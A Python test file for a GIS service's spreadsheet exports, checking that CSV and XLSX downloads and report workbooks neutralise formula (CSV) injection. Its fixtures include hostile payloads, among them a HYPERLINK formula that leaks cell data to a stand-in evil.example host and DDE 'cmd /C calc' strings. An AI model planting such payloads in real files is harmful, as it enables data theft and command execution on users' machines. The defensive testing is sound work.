"""No spreadsheet this service writes runs a formula a park manager typed (OWASP CSV injection).

Names and sources stored with formula payloads (``=``, ``+``, ``-``, ``@``, tab, full-width
＝) are written by every CSV/XLSX writer: every ``/downloads/*.csv|xlsx`` route of the app
(found from the app's routes, so a new one is covered), :func:`write_csv`/:func:`write_xlsx`
and the report workbook.  Each file is opened with :mod:`csv` and openpyxl: no cell may be
a formula and no text cell may start with a trigger character; numbers stay numbers.
A source scan also fails when a module writes CSV/XLSX without
:mod:`gis_service.spreadsheet_safety`.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import Engine, text

from gis_service.ingest import load_sample
from gis_service.answers.vocabulary import LEVELS
from gis_service.export import metrics_table, write_csv, write_xlsx
from gis_service.reports import district_report, park_report
from gis_service.spreadsheet_safety import FORMULA_TRIGGERS, safe_frame, write_xlsx_to
from gis_service.store import read_indicators, read_parks, read_targets
from tests.api.conftest import make_client
from tests.api.sample_data import load_web_sample

PAYLOADS = {
    "west": '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "east": "+cmd|' /C calc'!A0",
    "nodata": "@SUM(1+1)*cmd|' /C calc'!A0",
}
SOURCE = "-2+3+cmd|' /C calc'!A0"
SECTION = "\t=1+1"
TARGET_NAME = "＝1+1"
ZONE = "=1+2"
PACKAGE = Path(__file__).resolve().parents[2] / "gis_service"
#: modules that may call pandas/openpyxl writers: the helper, and COPY buffers into PostgreSQL
#: (never a file a user opens)
ALLOWED_WRITERS = {"spreadsheet_safety.py", "parcels/store.py", "ingest/land/write.py", "reports/xlsx.py"}
WRITER_CALL = re.compile(r"\.to_csv\(|\.to_excel\(|ExcelWriter\(|csv\.writer\(|csv\.DictWriter\(|Workbook\(")


@pytest.fixture
def poisoned(engine: Engine) -> dict[str, int]:
    ids = load_web_sample(engine)
    with engine.begin() as conn:
        for key, payload in PAYLOADS.items():
            conn.execute(text("UPDATE park SET name = :n WHERE id = :i"), {"n": payload, "i": ids[key]})
        conn.execute(text("UPDATE indicator SET source_document = :s, source_section = :t"), {"s": SOURCE, "t": SECTION})
        conn.execute(text("UPDATE target SET name = :n, source_document = :s"), {"n": TARGET_NAME, "s": SOURCE})
        conn.execute(text("UPDATE zone SET name = :n"), {"n": ZONE})
    return ids


def _check_csv(data: bytes, where: str) -> int:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    bad = [cell for cell in cells if cell and cell[0] in FORMULA_TRIGGERS and not _number(cell)]
    assert not bad, (where, bad[:5])
    return len(cells)


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _check_xlsx(source: bytes | Path, where: str) -> list[object]:
    book = load_workbook(io.BytesIO(source) if isinstance(source, bytes) else source)
    values: list[object] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (where, sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.value[:1] not in FORMULA_TRIGGERS, (where, sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    return values


def _download_routes(client: TestClient) -> list[str]:
    paths = client.app.openapi()["paths"]  # type: ignore[attr-defined]
    return [p for p in paths if p.startswith("/downloads/") and p.endswith((".csv", ".xlsx"))]


def test_every_download_route_writes_no_live_formula(db_url, poisoned) -> None:  # type: ignore[no-untyped-def]
    with make_client(db_url) as client:
        routes = _download_routes(client)
        assert {"/downloads/metrics.csv", "/downloads/metrics.xlsx"} <= set(routes)
        for route in routes:
            # the land-intensity downloads answer a year at park or zone level
            questions = ([{"year": 2020, "level": level} for level in ("park", "zone")] if "/intensity." in route
                         else [{"level": level} for level in LEVELS])
            for params in questions:
                level = params["level"]
                r = client.get(route, params=params)
                assert r.status_code == 200, (route, level, r.text[:300])
                if route.endswith(".csv"):
                    assert _check_csv(r.content, f"{route} {level}")
                    if level == "park":
                        text_ = r.content.decode("utf-8-sig")
                        assert "'" + PAYLOADS["west"].replace('"', '""') in text_  # shown as typed, quoted
                else:
                    values = _check_xlsx(r.content, f"{route} {level}")
                    if level == "park":
                        assert "'" + PAYLOADS["east"] in values and any(isinstance(v, float) for v in values)


def test_python_writers_write_no_live_formula(engine, poisoned, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    frames = {"metrics": metrics_table(engine), "parks": read_parks(engine), "indicators": read_indicators(engine),
              "targets": read_targets(engine)}
    for name, frame in frames.items():
        _check_csv(write_csv(frame, tmp_path / f"{name}.csv").read_bytes(), f"write_csv {name}")
    values = _check_xlsx(write_xlsx(frames, tmp_path / "all.xlsx"), "write_xlsx")
    assert "'" + TARGET_NAME in values and "'" + SOURCE in values


def test_report_workbooks_write_no_live_formula(engine, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    load_sample(engine)  # the reports need the full sample (every numerator of the values table)
    with engine.begin() as conn:
        park_id = conn.execute(text("SELECT park_id FROM indicator WHERE metric_code = 'output' AND park_id IS NOT NULL "
                                    "ORDER BY park_id LIMIT 1")).scalar_one()
        conn.execute(text("UPDATE park SET name = :n WHERE id = :i"), {"n": PAYLOADS["west"], "i": park_id})
        conn.execute(text("UPDATE indicator SET source_document = :s, source_section = :t"), {"s": SOURCE, "t": SECTION})
        conn.execute(text("UPDATE target SET source_document = :s"), {"s": SOURCE})
    park = park_report(engine, park_id, tmp_path / "park", formats=("xlsx",))
    assert park.xlsx is not None
    values = _check_xlsx(park.xlsx, "park report")
    assert any(isinstance(v, str) and v.startswith("'" + PAYLOADS["west"]) for v in values)  # the title, quoted
    district = district_report(engine, tmp_path / "district", formats=("xlsx",))
    assert district.xlsx is not None
    _check_xlsx(district.xlsx, "district report")


def test_numbers_stay_numbers_and_only_text_is_quoted(tmp_path: Path) -> None:
    frame = pd.DataFrame({"n": [-5.5, 3.0], "i": [-2, 1], "mixed": [-1, "-1"], "t": ["-1", "＠x"], "ok": ["a-b", None]})
    safe = safe_frame(frame)
    assert safe["n"].tolist() == [-5.5, 3.0] and safe["i"].tolist() == [-2, 1]
    assert safe["mixed"].tolist() == [-1, "'-1"] and safe["t"].tolist() == ["'-1", "'＠x"]
    assert safe["ok"].iloc[0] == "a-b" and pd.isna(safe["ok"].iloc[1])
    path = tmp_path / "n.xlsx"
    write_xlsx_to({"s": frame}, path)
    sheet = load_workbook(path)["s"]
    assert (sheet["A2"].value, sheet["A2"].data_type) == (-5.5, "n")
    assert (sheet["C2"].value, sheet["C3"].value) == (-1, "'-1")


def test_no_module_writes_a_spreadsheet_around_the_helper() -> None:
    offenders = []
    for path in PACKAGE.rglob("*.py"):
        relative = path.relative_to(PACKAGE).as_posix()
        if relative not in ALLOWED_WRITERS and WRITER_CALL.search(path.read_text(encoding="utf-8")):
            offenders.append(relative)
    assert not offenders, f"write CSV/XLSX through gis_service.spreadsheet_safety: {offenders}"
